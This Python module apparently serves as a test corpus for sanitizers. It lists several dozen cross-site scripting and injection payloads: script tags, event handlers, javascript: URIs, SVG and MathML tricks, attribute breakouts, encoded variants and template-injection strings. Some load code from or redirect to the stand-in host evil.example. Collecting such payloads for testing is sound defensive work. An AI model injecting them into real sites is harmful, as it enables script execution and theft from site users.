"""Texts that would run, load or redirect something, where a page took them for markup. Each would call `owned()`."""

from itertools import product

_ELEMENTS = [
    "<script>owned()</script>",
    "<ScRiPt>owned()</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script>owned()",
    "</script><script>owned()</script>",
    "</style><script>owned()</script>",
    "</title><script>owned()</script>",
    "</textarea><script>owned()</script>",
    "--><script>owned()</script>",
    "]]><script>owned()</script>",
    "<!--><img src=x onerror=owned()>",
    "<svg/onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=owned() />#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=owned()>",
    "<math href='javascript:owned()'>x</math>",
    "<iframe src='javascript:owned()'></iframe>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<object data='data:text/html,<script>owned()</script>'></object>",
    "<embed src='https://evil.example/x'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<details open ontoggle=owned()>",
    "<video><source onerror=owned()></video>",
    "<audio src onerror=owned()>",
    "<marquee onstart=owned()>",
    "<input autofocus onfocus=owned()>",
    "<select autofocus onfocus=owned()>",
    "<body onload=owned()>",
    "<template><script>owned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "<a href='java\tscript:owned()'>x</a>",
    "<a href='data:text/html,<script>owned()</script>'>x</a>",
    "<x contenteditable onblur=owned() tabindex=1 autofocus>x",
]
_HANDLERS = ["onerror", "onload", "onfocus", "onmouseover", "onpointerrawupdate", "onanimationstart"]
_QUOTES = ['"', "'", "`", "&quot;", "\\u0022"]
_ATTRIBUTES = [f"{quote}><img src=x {handler}=owned()>" for quote, handler in product(_QUOTES, _HANDLERS)]
_MARKDOWN = [
    "[link](javascript:owned())",
    "[link](https://evil.example/)",
    "![image](https://evil.example/pixel.png)",
    "![image](x 'onerror=owned()')",
    "<https://evil.example/>",
    "[reference]: https://evil.example/ 'x'",
    "```html\n<script>owned()</script>\n```",
    "$$\\href{javascript:owned()}{x}$$",
]
_TEMPLATES = [
    "{{constructor.constructor('owned()')()}}",
    "${owned()}",
    "<%= owned() %>",
    "#{owned()}",
    "[[owned()]]",
]
_ENCODED = [
    "&lt;script&gt;owned()&lt;/script&gt;",
    "%3Cscript%3Eowned()%3C/script%3E",
    "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
    "\x3cscript\x3eowned()\x3c/script\x3e\u2028owned()\u2029",
    "＜script＞owned()＜/script＞",
    "<scr\0ipt>owned()</scr\0ipt>",
    "<script\x0c>owned()</script>",
    "<\u202escript>owned()</script>",
]
_SCHEMES = [
    f"{scheme}owned()"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        " javascript:",
        "java\nscript:",
        "vbscript:",
        "javascript&colon;",
    )
]
_KEYS = ["__proto__", "constructor", "toString", "</script", "<!--", "dangerouslySetInnerHTML"]

MARKUP = [*_ELEMENTS, *_ATTRIBUTES, *_MARKDOWN, *_TEMPLATES, *_ENCODED, *_SCHEMES, *_KEYS]
